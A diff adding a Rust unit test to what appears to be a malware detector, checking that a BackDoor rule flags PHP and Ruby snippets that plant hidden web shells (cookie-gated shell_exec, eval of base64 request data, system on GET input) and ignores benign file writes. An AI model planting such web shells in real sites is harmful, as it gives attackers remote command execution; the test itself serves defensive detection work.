@@ -523,3 +523,37 @@ fn a_program_of_powershell_that_hides_its_address_or_packs_browser_stores_is_a_c
         assert_eq!(rules(PowerShell, text), [], "{text}");
     }
 }
+
+#[test]
+fn a_hidden_program_that_runs_what_a_request_says_is_a_back_door() {
+    use Dialect::{Php, Ruby};
+    for (dialect, text) in [
+        (
+            Php,
+            "<?php\n$up = dirname($theme, 2) . '/uploads/' . date('Y/m');\nif (is_dir($up) && is_writable($up)) {\n    $code = '<?php if (hash(\"sha256\", $_COOKIE[\"wpt\"] ?? \"\") === \"' . str_repeat('void', 16)\n        . '\") { echo shell_exec($_POST[\"c\"] ?? \"id\"); }';\n    file_put_contents(\"$up/.thumbs-cache.php\", $code);\n    touch(\"$up/.thumbs-cache.php\", 1);\n}\n",
+        ),
+        (
+            Php,
+            "<?php\nfile_put_contents($root . '/img/.c.php', '<?php @eval(base64_decode($_REQUEST[\\'x\\']));');\n",
+        ),
+        (Ruby, "File.write(\"#{dir}/.cache.phtml\", '<?php system($_GET[\"c\"]); ?>')\n"),
+    ] {
+        assert!(rules(dialect, text).contains(&Rule::BackDoor), "{text}");
+    }
+    for (dialect, text) in [
+        (
+            Php,
+            "<?php\nfile_put_contents(\"$dir/.env.php\", '<?php return ' . var_export($c, true) . ';');\n",
+        ),
+        (
+            Php,
+            "<?php\nfile_put_contents(\"$dir/.config.php\", '<?php echo htmlspecialchars($_GET[\"q\"]); exec(\"date\");');\n",
+        ),
+        (
+            Ruby,
+            "# fixture of a detector\nFile.write('spec/fixtures/shell.php', '<?php system($_GET[\"c\"]); ?>')\n",
+        ),
+    ] {
+        assert_eq!(rules(dialect, text), [], "{text}");
+    }
+}
